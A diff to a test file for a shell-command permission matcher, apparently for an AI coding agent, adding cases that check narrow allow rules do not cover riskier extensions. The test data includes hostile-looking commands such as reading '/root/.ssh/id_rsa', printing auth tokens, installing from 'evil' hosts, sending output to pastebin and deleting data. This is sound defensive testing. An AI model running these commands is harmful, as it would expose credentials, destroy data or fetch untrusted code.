@@ -734,7 +734,7 @@ const cases = Object.entries(uncovered).flatMap(([pattern, all]) =>
 );
 
 describe('an allow of a beginning', () => {
-	test.each(sampleOf(cases, 4))('%s does not cover %s', (pattern, words) => {
+	test.each(sampleOf(cases, 12))('%s does not cover %s', (pattern, words) => {
 		const command = `${pattern} ${words}`;
 		expect(verdict([allow(`~c "${pattern}"`)], command)).not.toBe('allow');
 		expect(verdict([allow(`~c "${pattern} *"`)], command)).not.toBe('allow');
@@ -1290,7 +1290,7 @@ describe('a prefix that is offered', () => {
 		return known;
 	};
 
-	test.each(sampleOf(cases, 4))(
+	test.each(sampleOf(cases, 12))(
 		'is none that would allow %s %s',
 		(pattern, words) => {
 			const command = `${pattern} ${words}`;
@@ -1650,6 +1650,83 @@ describe('an allow of what was shown', () => {
 		['zip -r z.zip d', 'zip -r z.zip d .'],
 		['zip -r z.zip d', 'zip -r z.zip d -T'],
 		['gcc a.c', 'gcc a.c -time=b'],
+		// What only looks is no allow of what does something.
+		['git remote -v', 'git remote -v rm origin'],
+		['git remote', 'git remote set-url origin x'],
+		['git reflog', 'git reflog expire --expire=now --all'],
+		['git symbolic-ref HEAD', 'git symbolic-ref HEAD refs/heads/evil'],
+		['git config user.name', 'git config user.name evil'],
+		['git notes list', 'git notes list x --ref y'],
+		['gh api repos/o/r', "gh api repos/o/r -H 'X-HTTP-Method-Override: PUT'"],
+		// An option that is named is no allow of others.
+		['git restore --staged', 'git restore --staged --worktree src'],
+		['git restore --staged', 'git restore --staged -W .'],
+		['git restore --staged', 'git restore -SW .'],
+		['git reset HEAD', 'git reset HEAD --hard'],
+		['git checkout -b', 'git checkout -b x -f'],
+		['git prune -n', 'git prune -n --no-dry-run'],
+		[
+			'git update-index --refresh',
+			'git update-index --refresh --assume-unchanged a',
+		],
+		['git stash', 'git stash clear'],
+		['git stash', 'git stash drop'],
+		['git stash', 'git stash pop'],
+		['git gc', 'git gc --prune=now'],
+		// A further thing to fetch, install, start or end.
+		['git fetch origin', 'git fetch origin +topic:topic'],
+		['git fetch origin', 'git fetch origin topic:refs/tags/v1'],
+		['git fetch origin', "git fetch origin '+refs/heads/*:refs/heads/*'"],
+		['git fetch origin', 'git fetch origin -f topic:topic'],
+		['git fetch origin', 'git fetch origin main --update-head-ok'],
+		['git fetch origin', 'git fetch origin --prune-tags'],
+		['git fetch origin', 'git fetch origin --all'],
+		['git pull origin main', 'git pull origin main +topic:topic'],
+		['cargo install ripgrep', 'cargo install ripgrep evil'],
+		['cargo install ripgrep', 'cargo install ripgrep --git https://x'],
+		['cargo add serde', 'cargo add serde evil'],
+		['go install a@latest', 'go install a@latest evil.org/b@latest'],
+		['go get a', 'go get a b'],
+		['gem install rails', 'gem install rails evil'],
+		['brew install jq', 'brew install jq evil'],
+		['brew install jq', 'brew install jq --HEAD'],
+		['uv add requests', 'uv add requests evil'],
+		['poetry add requests', 'poetry add requests evil'],
+		['bundle add rails', 'bundle add rails evil'],
+		['composer require a/b', 'composer require a/b evil/c'],
+		['conda install numpy', 'conda install numpy evil'],
+		['luarocks install busted', 'luarocks install busted evil'],
+		['docker pull alpine', 'docker pull alpine evil'],
+		['docker exec web', 'docker exec web rm -r /data'],
+		['npm uninstall a', 'npm uninstall a b'],
+		['yarn add a', 'yarn add a b'],
+		['systemctl restart a', 'systemctl restart a b'],
+		['kubectl config use-context a', 'kubectl config use-context a b'],
+		['kill 12', 'kill 12 13'],
+		['killall a', 'killall a b'],
+		['patch -p1 a', 'patch -p1 a b'],
+		['vercel deploy a', 'vercel deploy a --prod'],
+		['svn update a', 'svn update a b'],
+		['python -m pip install -r a.txt', 'python -m pip install -r a.txt evil'],
+		['rm -i', 'rm -i c -f'],
+		['mv -n', 'mv -n a b -f'],
+		['mv -n', 'mv -n a b --force'],
+		['ln -s', 'ln -s a b -f'],
+		['docker compose exec web pytest', 'docker compose exec web pytest -x b'],
+		['docker exec app pytest', 'docker exec app pytest --basetemp=src'],
+		['docker run --rm a pytest', 'docker run --rm a pytest --basetemp=src'],
+		['kubectl exec a -- cat b', 'kubectl exec a -- cat b /root/.ssh/id_rsa'],
+		['tox -e py --', 'tox -e py -- --pastebin=all'],
+		['dotnet test', 'dotnet test -t:Publish'],
+		['bazel test //...', 'bazel test //... --bes_backend=evil'],
+		['turbo run test', 'turbo run test --profile=x'],
+		['gh auth status', 'gh auth status --show-token'],
+		['gh auth status', 'gh auth status -t'],
+		['clj -M:test', "clj -M:test -Sdeps '{:deps {}}'"],
+		['docker build', 'docker build https://evil.org/x.git'],
+		['pytest', 'pytest --mysql-mysqld=./x'],
+		['pytest', 'pytest --hosts=ssh://evil'],
+		['python3 -m pip install a', 'python3 -m pip install a b'],
 	])('makes and writes no more: %s is not %s', (words, command) => {
 		expect(verdict([allow(`~c "${words}"`)], command)).toBe('none');
 	});
@@ -1678,6 +1755,37 @@ describe('an allow of what was shown', () => {
 		['xxd', 'xxd -l 4 a'],
 		['uniq a b', 'uniq a b'],
 		['git add a', 'git add a'],
+		['git remote -v', 'git remote -v'],
+		['npm run', 'npm run build'],
+		['git remote add', 'git remote add x https://a.org/b'],
+		['git stash drop', 'git stash drop stash@{1}'],
+		['git reflog', 'git reflog show --all'],
+		['git config --get user.name', 'git config --get user.name'],
+		['git fetch origin', 'git fetch origin main feat/x -p --tags'],
+		['git fetch', 'git fetch --all --prune'],
+		['git pull origin main', 'git pull origin main --ff-only'],
+		['git stash', 'git stash push -m x'],
+		['git restore --staged', 'git restore --staged src a.ts'],
+		['git checkout -b', 'git checkout -b feat/x'],
+		['cargo install ripgrep', 'cargo install ripgrep --locked -q'],
+		['cargo install', 'cargo install ripgrep fd-find'],
+		['cargo test --lib', 'cargo test --lib name --release'],
+		['cargo nextest run', 'cargo nextest run name'],
+		['go test ./a', 'go test ./a ./b -v'],
+		['brew install', 'brew install jq fd'],
+		['docker pull', 'docker pull alpine'],
+		['docker compose up', 'docker compose up web'],
+		['yarn build web', 'yarn build web --watch'],
+		['uv add a', 'uv add a --dev'],
+		['python -m pip install', 'python -m pip install a b'],
+		['python -m pip install -r a.txt', 'python -m pip install -r a.txt -q'],
+		['python3 -m pytest', 'python3 -m pytest -k a -x tests'],
+		['kill', 'kill 12 13'],
+		['rm -rf', 'rm -rf a b -v'],
+		['rm -r a', 'rm -r a -f'],
+		['docker compose exec web', 'docker compose exec web'],
+		['docker build', 'docker build -t a .'],
+		['docker run', 'docker run --rm a b'],
 	])('is still an allow: %s is %s', (words, command) => {
 		expect(verdict([allow(`~c "${words}"`)], command)).toBe('allow');
 	});
